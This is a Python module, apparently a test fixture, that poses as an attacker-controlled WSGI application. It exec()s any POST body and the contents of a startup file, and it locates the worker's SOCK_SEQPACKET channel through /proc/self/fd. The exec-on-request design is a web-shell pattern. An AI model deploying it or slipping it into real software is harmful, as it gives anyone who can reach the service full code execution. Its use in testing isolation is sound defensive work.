"""An application that belongs to an attacker: it executes the Python that it is sent, and what the file `at_load` holds.

`CHANNEL` is the worker's end of its channel, found as an attacker would find it: the only SOCK_SEQPACKET of the process.
"""

from __future__ import annotations

import os
import pathlib
import socket
import stat


def channel() -> socket.socket:
    """The worker's end of its channel; the caller must `detach` it."""
    for path in pathlib.Path("/proc/self/fd").iterdir():
        try:
            if stat.S_ISSOCK(path.stat().st_mode):
                sock = socket.socket(fileno=os.dup(int(path.name)))
                if sock.type == socket.SOCK_SEQPACKET:
                    return sock
                sock.close()
        except OSError:
            continue
    raise LookupError("no channel")


def run(code: str) -> object:
    names: dict[str, object] = {"channel": channel}
    exec(code, names)
    return names.get("answer")


def factory(global_conf, at_load="", **local_conf):
    path = pathlib.Path(at_load)
    if at_load and path.exists():
        run(path.read_text(encoding="utf-8"))

    def app(environ, start_response):
        answer: object = os.getpid()
        if environ["REQUEST_METHOD"] == "POST":
            answer = run(environ["wsgi.input"].read().decode())
        body = str(answer).encode()
        start_response("200 OK", [("Content-Type", "text/plain"), ("Content-Length", str(len(body)))])
        return [body]

    return app
